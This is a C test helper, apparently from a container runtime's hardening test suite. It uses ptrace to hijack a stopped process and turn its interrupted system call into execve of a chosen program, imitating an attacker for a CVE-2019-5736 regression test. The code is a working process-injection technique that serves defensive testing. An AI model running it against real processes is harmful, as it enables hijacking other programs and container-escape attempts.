/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * ptrace-exec PID PROGRAM [ARG...]: make the process PID, stopped in a system
 * call, execve(PROGRAM, [PROGRAM, ARG...], {}) in its place, as an attacker
 * with ptrace rights over it would (writing the strings below its stack
 * pointer and turning its interrupted system call into execve).  x86_64
 * only.  hardening.bats uses it to move a container's init off the
 * runtime's binary without ending init (CVE-2019-5736).
 *
 * Exit status: 0 once the target's execve returned (it succeeded if the
 * target is then running PROGRAM), 1 on a usage or ptrace error.
 */
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>

#define MAX_ARGS 16

static int poke_bytes(pid_t pid, unsigned long addr, const void *data, size_t len)
{
	const unsigned char *p = data;
	size_t off;

	for (off = 0; off < len; off += sizeof(long)) {
		long word = 0;
		size_t n = len - off < sizeof(long) ? len - off : sizeof(long);

		if (n < sizeof(long)) {
			errno = 0;
			word = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + off), NULL);
			if (errno)
				return -1;
		}
		memcpy(&word, p + off, n);
		if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + off), (void *)word) < 0)
			return -1;
	}
	return 0;
}

static int fail(const char *what)
{
	fprintf(stderr, "ptrace-exec: %s: %s\n", what, strerror(errno));
	return 1;
}

int main(int argc, char **argv)
{
	struct user_regs_struct regs;
	unsigned long sp, strs[MAX_ARGS], vec[MAX_ARGS + 2];
	pid_t pid;
	int status, i, nargs;

	if (argc < 3 || argc - 2 > MAX_ARGS) {
		fprintf(stderr, "usage: ptrace-exec PID PROGRAM [ARG...]\n");
		return 1;
	}
	pid = (pid_t)atoi(argv[1]);
	nargs = argc - 2;
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return fail("PTRACE_SEIZE");
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0)
		return fail("PTRACE_INTERRUPT");
	if (waitpid(pid, &status, __WALL) < 0)
		return fail("waitpid");
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
		return fail("PTRACE_GETREGS");

	/* The strings, then the argv vector, well below the red zone. */
	sp = (regs.rsp - 4096) & ~15UL;
	for (i = nargs - 1; i >= 0; i--) {
		size_t len = strlen(argv[2 + i]) + 1;

		sp -= (len + 15) & ~15UL;
		if (poke_bytes(pid, sp, argv[2 + i], len) < 0)
			return fail("write a string");
		strs[i] = sp;
	}
	for (i = 0; i < nargs; i++)
		vec[i] = strs[i];
	vec[nargs] = 0;
	vec[nargs + 1] = 0;	/* envp: empty */
	sp -= sizeof(unsigned long) * (size_t)(nargs + 2);
	sp &= ~15UL;
	if (poke_bytes(pid, sp, vec, sizeof(unsigned long) * (size_t)(nargs + 2)) < 0)
		return fail("write argv");

	/* Back onto the two-byte syscall instruction it was stopped after. */
	regs.rip -= 2;
	regs.rax = SYS_execve;
	regs.orig_rax = (unsigned long)-1;
	regs.rdi = strs[0];
	regs.rsi = sp;
	regs.rdx = sp + sizeof(unsigned long) * (size_t)nargs;
	regs.rsp = sp;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0)
		return fail("PTRACE_SETREGS");
	if (ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0)
		return fail("PTRACE_DETACH");
	return 0;
}
